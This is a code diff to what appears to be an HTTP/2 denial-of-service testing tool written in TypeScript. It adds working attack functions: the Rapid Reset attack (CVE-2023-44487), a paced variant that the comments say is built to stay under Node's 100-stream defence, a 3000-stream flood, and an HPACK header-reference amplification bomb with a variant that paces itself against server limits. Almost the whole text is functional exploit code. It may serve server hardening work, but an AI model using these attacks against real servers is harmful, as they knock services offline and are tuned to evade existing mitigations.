@@ -44,6 +44,10 @@ interface Manner {
   window?: number
   most?: number
   patient?: boolean
+  /** By one that is patient. */
+  atOnce?: number
+  /** Until the server has read them. */
+  waits?: boolean
 }
 
 /**
@@ -53,7 +57,7 @@ interface Manner {
 async function callAfterCall(
   connection: HostileConnection,
   fields: readonly Field[],
-  { window, most = MOST_STREAMS, patient = false }: Manner,
+  { window, most = MOST_STREAMS, patient = false, atOnce = PATIENT_CALLS, waits = false }: Manner,
   call: (streamId: number, headers: (flags: number) => Buffer) => Buffer,
 ): Promise<void> {
   const first = indexedFields(fields)
@@ -70,8 +74,9 @@ async function callAfterCall(
     const frames = call(streamId, (flags) => frame(HEADERS, END_HEADERS | flags, streamId, block))
     batch.push(frames)
     bytes += frames.length
-    if (patient ? batch.length < PATIENT_CALLS : bytes < BATCH_BYTES) continue
+    if (patient ? batch.length < atOnce : bytes < BATCH_BYTES) continue
     await connection.send(Buffer.concat(batch))
+    if (waits) await connection.roundTrip()
     if (patient) await wait(PATIENT_MS)
     batch = []
     bytes = 0
@@ -90,6 +95,8 @@ const open =
 
 /** Calls that are opened, send nothing, and stay. */
 export const openStreams = open({})
+/** As many as a server may allow, and all before it has allowed them. */
+export const openStreamsAtOnce = open({ most: 3000 })
 /** The same by one that heeds the server's limit as long as it can. */
 export const patientOpenStreams = open({ patient: true })
 
@@ -158,36 +165,49 @@ export const unknownPaths: Attack = (address, options) =>
     ),
   )
 
+const resetAtOnce =
+  (manner: Manner): Attack =>
+  (address, options) => {
+    const { path, message } = unaryOf(options)
+    return attackOn(address, options, (connection) =>
+      callAfterCall(connection, requestFields(path), { most: 1e9, ...manner }, (id, headers) =>
+        Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message)), reset(id)]),
+      ),
+    )
+  }
+
 /** CVE-2023-44487: calls that are opened and reset at once. */
-export const rapidReset: Attack = (address, options) => {
-  const { path, message } = unaryOf(options)
-  return attackOn(address, options, (connection) =>
-    callAfterCall(connection, requestFields(path), { most: 1e9 }, (id, headers) =>
-      Buffer.concat([headers(0), frame(DATA, END_STREAM, id, prefixed(message)), reset(id)]),
-    ),
-  )
-}
+export const rapidReset = resetAtOnce({})
+/** So few at a time that Node, which refuses 100 streams and then ends a connection, has nothing against them. */
+export const pacedRapidReset = resetAtOnce({ patient: true, atOnce: 60, waits: true })
+
+const referToLargeField =
+  ({ patient = false }: Manner): Attack =>
+  (address, options) =>
+    attackOn(address, options, async (connection) => {
+      if (patient) connection.answerSettings()
+      await connection.send(Buffer.concat([preface, settings(), ...(patient ? [] : [settingsAck])]))
+      const bomb = indexedFields([["x", "y".repeat(3950)]])
+      const fields = plainFields(requestFields(bidiOf(options).path))
+      const again = Buffer.alloc(14, reference(0))
+      let streamId = 1
+      let block = Buffer.concat([fields, bomb])
+      while (streamId < 2 * MOST_STREAMS && !connection.closed) {
+        const batch: Buffer[] = []
+        for (let i = 0; i < (patient ? PATIENT_CALLS : 400); i += 1) {
+          batch.push(frame(HEADERS, END_HEADERS, streamId, block))
+          block = Buffer.concat([fields, again])
+          streamId += 2
+        }
+        await connection.send(Buffer.concat(batch))
+        if (patient) await wait(PATIENT_MS)
+      }
+    })
 
 /** A field of 4,000 bytes is kept, and each call refers to it 14 times: 56 kB of headers by 20 bytes. */
-export const hpackReferences: Attack = (address, options) =>
-  attackOn(address, options, async (connection) => {
-    const start = [preface, settings(), settingsAck]
-    await connection.send(Buffer.concat(start))
-    const bomb = indexedFields([["x", "y".repeat(3950)]])
-    const fields = plainFields(requestFields(bidiOf(options).path))
-    const again = Buffer.alloc(14, reference(0))
-    let streamId = 1
-    let block = Buffer.concat([fields, bomb])
-    while (streamId < 2 * MOST_STREAMS && !connection.closed) {
-      const batch: Buffer[] = []
-      for (let i = 0; i < 400; i += 1) {
-        batch.push(frame(HEADERS, END_HEADERS, streamId, block))
-        block = Buffer.concat([fields, again])
-        streamId += 2
-      }
-      await connection.send(Buffer.concat(batch))
-    }
-  })
+export const hpackReferences = referToLargeField({})
+/** The same by one that heeds the server's limit as long as it can. */
+export const patientHpackReferences = referToLargeField({ patient: true })
 
 /** Requests of which all but the last byte comes, as large as a server takes. */
 export const halfMessages: Attack = (address, options) => {
